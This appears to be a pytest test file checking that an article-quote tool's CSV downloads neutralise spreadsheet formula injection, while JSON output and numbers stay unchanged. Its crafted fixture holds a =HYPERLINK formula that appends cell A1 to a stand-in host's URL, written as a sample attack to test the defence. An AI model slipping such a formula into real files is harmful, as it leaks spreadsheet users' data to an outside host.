"""The CSV downloads open safely in a spreadsheet: article text is untrusted, and a cell that starts with =, +, -
or @ is run there as a formula (=HYPERLINK(…) sends what is beside it away). Such a text starts with ' in the
CSV; the JSON keeps every text as written, and numbers are untouched."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from quotelens import readable, views
from quotelens.article import load_article
from tests.test_pages import app

CRAFTED = (
    "Budget Row\n\n"
    'Mayor Jo Park said =HYPERLINK("http://x.invalid/?"&A1,"see") was the answer.\n\n'
    "@council replied that -2+3 was the cost, Park said."
)


def rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"))))


@pytest.fixture(scope="module")
def crafted():
    art = load_article(CRAFTED)
    assert art.quotes["text"].str.startswith(("=", "@")).sum() == 2  # the engine keeps them as content
    return art


@pytest.mark.parametrize("table", ["quotes", "paragraphs"])
def test_no_csv_cell_starts_a_formula(crafted, table):
    for row in rows(views.to_csv_bytes(crafted.tables()[table])):
        assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@")], row


def test_the_csv_keeps_the_text_after_its_mark_and_the_json_keeps_it_as_written(crafted):
    texts = [r["text"] for r in rows(views.to_csv_bytes(crafted.quotes))]
    assert texts == ["'" + t for t in crafted.quotes["text"]]
    assert [r["text"] for r in json.loads(views.to_json_bytes(crafted.quotes))] == crafted.quotes["text"].tolist()


def test_numbers_and_ordinary_text_are_untouched(default_article):
    table = pd.DataFrame({"n": [-3, 2], "x": [-0.5, 1.5], "word": ["said", None], "note": ["a -b", "+"]})
    back = pd.read_csv(io.BytesIO(views.to_csv_bytes(table)), keep_default_na=False)
    assert back["n"].tolist() == [-3, 2] and back["x"].tolist() == [-0.5, 1.5]
    assert back["word"].tolist() == ["said", ""] and back["note"].tolist() == ["a -b", "'+"]
    plain = pd.read_csv(io.BytesIO(views.to_csv_bytes(default_article.quotes)))
    assert plain["text"].tolist() == default_article.quotes["text"].tolist()  # a real story loses nothing


def test_every_csv_download_says_so():
    at = app("wsw")
    helps = {b.label: b.help for b in at.get("download_button")}
    assert helps["Download CSV"] == readable.CSV_HELP and not helps["Download JSON"]
